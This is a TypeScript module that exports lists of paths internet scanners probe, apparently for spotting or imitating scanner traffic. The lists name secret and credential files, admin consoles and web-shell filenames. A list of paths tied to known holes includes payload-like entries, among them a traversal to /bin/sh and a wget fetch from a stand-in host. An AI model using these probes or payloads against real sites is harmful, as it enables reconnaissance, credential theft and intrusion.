/** What scanners look for, as sites on the internet see it every day. */

export const SECRETS = [
  '/.env /.env.local /.env.production /.env.bak /.env.old /.env.save /api/.env /app/.env /backend/.env /laravel/.env',
  '/.git/config /.git/HEAD /.git/index /.gitignore /.svn/entries /.hg/hgrc /.DS_Store /.aws/credentials /.aws/config',
  '/.ssh/id_rsa /.ssh/id_ed25519 /id_rsa /.htpasswd /.htaccess /.npmrc /.dockercfg /.docker/config.json',
  '/.bash_history /.vscode/sftp.json /.idea/workspace.xml /wp-config.php.bak /wp-config.php~ /wp-config.php.save',
  '/wp-config.old /config.php.bak /configuration.php.bak /config/database.yml /config.yml /secrets.json /firebase.json',
  '/backup.sql /dump.sql /db.sql /database.sql /shop.sql.gz /backup.zip /backup.tar.gz /www.zip /site.tgz /old.rar',
  '/web.config /appsettings.json /application.properties /credentials.json /service-account.json /composer.lock',
  '/server.key /privkey.pem /cert.pfx /keystore.jks /users.sqlite /phpinfo.php /info.php /test.php /debug.log',
]
  .join(' ')
  .split(' ');

export const CONSOLES = [
  '/phpmyadmin/ /phpMyAdmin/index.php /pma/ /myadmin/ /mysql/ /adminer.php /adminer /dbadmin/ /sqladmin/ /admin/',
  '/admin.php /admin/login /administrator/ /administrator/index.php /manager/html /host-manager/html /jenkins/',
  '/jenkins/login /grafana/login /kibana/app /console/ /webconsole/ /actuator /actuator/env /actuator/health',
  '/solr/admin/ /server-status /server-info /nginx_status /portainer/ /rancher/ /cpanel /webadmin/ /plesk/ /hudson/',
  '/boaform/admin/formLogin /login.action /zabbix/ /nagios/ /prometheus/graph /consul/ui /airflow/login /druid/index.html',
]
  .join(' ')
  .split(' ');

export const SHELLS = [
  '/c99.php /r57.php /wso.php /wso2.php /b374k.php /shell.php /cmd.php /alfa.php /alfanew.php /mini.php /indoxploit.php',
  '/up.php /uploader.php /upload.php /x.php /xx.php /0.php /1.php /adminfuns.php /wp-conflg.php /radio.php /xleet.php',
  '/simple.php /about.php /chosen.php /gecko.php /fm.php /wp-content/uploads/shell.php /wp-content/uploads/2025/x.php',
  '/wp-content/plugins/hellopress/wp_filemanager.php /wp-content/themes/seotheme/db.php /images/cmd.php /files/up.php',
  '/wp-includes/wp-class.php /wp-admin/css/colors/blue/index.php /.well-known/gecko.php /cgi-bin/shell.php /tmp/a.jsp',
  '/cache/wso.php /media/r57.phtml /shell.jsp /cmd.jsp /cmd.aspx /webshell.php /backdoor.php /as.php /ws.php /lock360.php',
]
  .join(' ')
  .split(' ');

/** Paths and queries that belong to one published hole each. */
export const HOLES = [
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /phpunit/src/Util/PHP/eval-stdin.php /_ignition/execute-solution',
  '/hudson/script /autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example',
  '/owa/auth/x.js /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application /remote/fgt_lang?lang=en',
  '/remote/logincheck /dana-na/auth/url_default/welcome.cgi /mgmt/tm/util/bash /tmui/login.jsp/..;/tmui/util/getTabSet.jsp',
  '/cgi-bin/luci/;stok=/locale?form=country&operation=write /goform/setmac /boaform/admin/formLogin /GponForm/diag_Form?images/',
  '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=ls /setup/setupadministrator.action /ws/v1/cluster/apps/new-application',
  '/geoserver/wfs /+CSCOE+/logon.html /struts2-showcase/index.action /solr/admin/info/system?wt=json /HNAP1/',
  '/console/css/%252e%252e%252fconsole.portal /wls-wsat/CoordinatorPortType /api/jsonws/invoke /index.php?s=/Index/think/app',
  '/actuator/gateway/routes /druid/indexer/v1/sampler /seeyon/thirdpartyController.do /nagiosxi/login.php /sdk/webLanguage',
  '/cgi-bin/.%2e/.%2e/.%2e/bin/sh /cgi-bin/authLogin.cgi /shell?cd+/tmp;wget+http://198.51.100.9/a /evox/about',
  '/api/v1/check-in/../login /portal/redlion /webtools/control/main /xmlpserver/servlet/adfresource /wsman /SDK/webLanguage',
]
  .join(' ')
  .split(' ');

/** Words that directories and files are guessed with. */
export const WORDS =
  'admin api app archive assets auth backup beta bin blog build cache cart cgi cms config console core css data db debug demo dev docs download edit email error export file files forum home html image include index info install internal js lib log login logs mail main media member mobile new news node old order page panel php portal priv private public report root secret server service shop site sql staging static status store svc sys temp test tmp tool upload user v2 vendor web wiki work'.split(
    ' ',
  );
